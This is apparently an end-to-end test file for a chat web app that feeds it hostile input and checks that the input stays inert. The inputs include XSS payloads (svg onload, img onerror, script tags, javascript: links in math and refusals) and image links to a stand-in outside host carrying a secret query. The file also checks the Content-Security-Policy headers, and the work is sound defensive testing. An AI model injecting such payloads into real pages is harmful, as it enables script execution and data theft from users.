/** Field notes 3.1 (X2-X6) and 3.2 (P1, P4): hostile words in every field, and what may leave. */
import { FOREIGN, MARKDOWN, MATHS } from "./seeds.ts";
import { expect, IMAGE, survives, test } from "./victim.ts";

const END = "The end.";

test("X2 of addresses in any spelling only plain ones become links, opened apart", async ({
  victim,
  nasty,
}) => {
  const text = `${MARKDOWN.join("\n\n")}\n\n[mail](mailto:anna@example.invalid)\n\n${END}`;
  await survives(victim, nasty.upstream, { text, piece: 50 });
  const links = await victim.chat.answers
    .last()
    .locator("a")
    .evaluateAll((found) =>
      found.map((link) => {
        const { protocol, target, rel, ping, download } = link as HTMLAnchorElement;
        return { protocol, target, rel, ping, download };
      }),
    );
  const plain = { target: "_blank", rel: "noopener noreferrer nofollow", ping: "", download: "" };
  const schemes = new Set(links.map(({ protocol }) => protocol));
  expect(schemes).toEqual(new Set(["https:", "http:", "mailto:"]));
  for (const { protocol, ...rest } of links) expect(rest, protocol).toEqual(plain);
});

test("X2 broken and hostile formulas are drawn without effect or stay words", async ({
  victim,
  nasty,
}) => {
  const text = `${MATHS.join("\n\n")}\n\n$\\frac{a}{b}$\n\n${END}`;
  await survives(victim, nasty.upstream, { text, piece: 20 });
  const answer = victim.chat.answers.last();
  await expect(answer.locator("mfrac").last()).toBeVisible();
  await expect(answer.locator("math [href], math a, math script")).toHaveCount(0);
  await expect(answer.locator("code", { hasText: "\\href{javascript:" }).first()).toBeVisible();
});

test("X2 diagrams, pictures in text and comments are shown as the words they are", async ({
  victim,
  nasty,
}) => {
  const drawing = `<svg onload=window.hacked=1></svg>`;
  const diagram = "graph TD; A[<img src=x onerror=window.hacked=1>]";
  const text = `${drawing}\n\n\`\`\`mermaid\n${diagram}\n\`\`\`\n\n<!-- ${IMAGE} -->\n\n${END}`;
  await survives(victim, nasty.upstream, { text, piece: 5 });
  const shown = await victim.chat.shownText();
  for (const words of [drawing, diagram, `<!-- ${IMAGE} -->`]) expect(shown).toContain(words);
});

test("X3 X5 reasoning, tools, errors, titles, searches, prompts and models are words", async ({
  victim: { page, chat },
  nasty,
}) => {
  nasty.upstream.answer = {
    text: END,
    reasoning: `I think ${IMAGE} and <script>window.hacked=1</script>.`,
    calls: [
      { name: "demo_echo", arguments: JSON.stringify({ text: IMAGE }) },
      { name: `x${IMAGE}`, arguments: IMAGE },
    ],
  };
  await chat.open();
  await chat.askAndWait(`question ${IMAGE}`);
  for (const fold of await chat.answers.last().locator("button[aria-expanded]").all()) {
    await fold.click();
  }
  await expect(chat.answers.last()).toContainText(IMAGE);
  await expect(chat.list.getByRole("link").first()).toContainText("question");
  await page.getByRole("button", { name: /^Model:/ }).click();
  await expect(page.getByRole("option", { name: /evil/ })).toBeVisible();
  await page.keyboard.press("Escape");

  nasty.upstream.answer = { text: "", refusal: `no ${IMAGE} [x](javascript:window.hacked=1)` };
  await chat.ask("and now?");
  await expect(chat.answers.last()).toContainText(IMAGE);
  const path = `/api/conversations/${chat.conversationId}`;
  const change = { title: `${IMAGE}<script>window.hacked=1</script>`, system_prompt: IMAGE };
  expect((await page.request.patch(path, { data: change })).ok()).toBe(true);
  await page.reload();
  await expect(chat.list.getByRole("link", { name: IMAGE })).toBeVisible();
  await expect(page).toHaveTitle(new RegExp("<img"));
  await page.getByRole("searchbox").fill("onerror");
  await expect(chat.list.getByRole("link", { name: IMAGE })).toBeVisible();
});

test("P1 P4 pictures and links of an answer are not fetched, and say where they lead", async ({
  victim,
  nasty,
}) => {
  const text = [
    `![inline](${FOREIGN}/inline.png?secret=1)`,
    `![by reference][p]\n\n[p]: ${FOREIGN}/reference.png`,
    `<img src="${FOREIGN}/html.png">`,
    `${FOREIGN}/automatic and <${FOREIGN}/angle>`,
    `[words](${FOREIGN}/x?q=${"s".repeat(300)})`,
    `[https://bank.example](${FOREIGN}/)`,
    END,
  ].join("\n\n");
  await survives(victim, nasty.upstream, { text, piece: 3 });
  const { chat } = victim;
  const shown = chat.answers.last();
  await expect(shown.getByRole("link", { name: "inline from outside.invalid" })).toBeVisible();
  await expect(shown.getByRole("link", { name: "by reference from outside" })).toBeVisible();
  await expect(shown).toContainText("(sends 303 characters to outside.invalid)");
  await expect(shown).toContainText("https://bank.example(outside.invalid)");
  for (const link of await shown.getByRole("link").all()) await link.hover();
});

test("X6 every page comes with a policy that allows no script but ours", async ({ page }) => {
  for (const path of ["/", "/login", "/setup", "/pair", "/c/x", "/settings/people", "/no/page"]) {
    const { [path]: headers } = { [path]: (await page.request.get(path)).headers() };
    const rules = new Map(
      (headers?.["content-security-policy"] ?? "").split(";").map((rule) => {
        const [name = "", ...values] = rule.trim().split(/\s+/);
        return [name, values.join(" ")] as const;
      }),
    );
    const wanted = {
      "default-src": "'none'",
      "script-src": "'self'",
      "object-src": "'none'",
      "base-uri": "'none'",
      "frame-ancestors": "'none'",
      "require-trusted-types-for": "'script'",
      "img-src": "'self' blob: data:",
      "connect-src": "'self'",
    };
    expect(Object.fromEntries(rules)).toMatchObject(wanted);
    expect([...rules.values()].join(" ")).not.toMatch(/unsafe|\*|https?:/);
    expect(headers?.["x-content-type-options"]).toBe("nosniff");
    expect(headers?.["x-dns-prefetch-control"]).toBe("off");
  }
});

test("X6 script that found its way into a page is stopped by its policy", async ({ page }) => {
  await page.goto("/login");
  const outcome = await page.evaluate(
    () =>
      new Promise<{ thrown: string[]; stopped: string[] }>((resolve) => {
        const stopped: string[] = [];
        const thrown: string[] = [];
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          stopped.push(effectiveDirective);
          // The last attempt; a busy machine takes its time to tell.
          if (effectiveDirective === "form-action") resolve({ thrown, stopped });
        });
        const attempts: Record<string, () => void> = {
          html: () => (document.body.innerHTML = "<img src=x onerror=window.hacked=1>"),
          script: () => (document.createElement("script").text = "window.hacked=1"),
          frame: () => (document.createElement("iframe").srcdoc = "<p>x</p>"),
          handler: () => {
            document.body.setAttribute("onclick", "window.hacked=1");
          },
          eval: () => void Reflect.apply(eval, null, ["window.hacked=1"]),
        };
        // In a task of the page's own: what the test itself asks for is not held to its policy.
        setTimeout(() => {
          for (const [name, attempt] of Object.entries(attempts)) {
            try {
              attempt();
            } catch {
              thrown.push(name);
            }
          }
          document.body.click();
          const form = document.createElement("form");
          form.action = "https://outside.invalid/";
          document.body.append(form);
          form.submit();
          setTimeout(() => resolve({ thrown, stopped }), 5000);
        });
      }),
  );
  expect(outcome.thrown.sort()).toEqual(["eval", "frame", "handler", "html", "script"]);
  expect(new Set(outcome.stopped)).toEqual(new Set(["require-trusted-types-for", "form-action"]));
  expect(await page.evaluate("window.hacked ?? null")).toBeNull();
});
